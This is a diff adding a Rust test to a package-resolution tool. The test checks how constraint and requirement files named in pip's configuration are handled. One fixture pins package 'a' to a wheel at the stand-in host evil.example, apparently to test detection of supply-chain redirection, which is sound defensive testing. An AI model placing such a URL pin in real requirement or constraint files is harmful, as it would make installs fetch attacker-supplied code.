@@ -795,6 +795,27 @@ fn a_lockfile_that_holds_is_the_plan() {
     assert_eq!(world.versions(one), "a 2.0, t 1.0");
 }
 
+/// What pip's configuration names is read as `-r` and `-c` are.
+#[test]
+fn files_that_pips_configuration_names() {
+    let world = project_world();
+    let told = |name: &str, path: &str, text: &str| {
+        let mut command = pip(&["a"]);
+        command.files.0.insert(PathBuf::from("/work").join(path), text.as_bytes().to_vec());
+        command.invocation.flags.push(Flag {
+            name: name.to_owned(),
+            value: Some(path.to_owned()),
+            effect: FlagEffect::Selects,
+            location: Location::at("/home/.config/pip/pip.conf", 2, 1),
+        });
+        command
+    };
+    assert_eq!(world.versions(told("--constraint", "c.txt", "a<2\n")), "a 1.0");
+    assert_eq!(world.versions(told("--requirement", "r.txt", "x\n")), "a 2.0, x 1.0");
+    let plan = world.plan(told("--constraint", "c.txt", "a @ https://evil.example/a-9.0-py3-none-any.whl\n"));
+    assert_eq!(package(&plan, "a").source.kind(), "url");
+}
+
 #[test]
 fn a_poisoned_lockfile_is_held_against_the_index() {
     use tidewaiter::model::LockIssueKind;
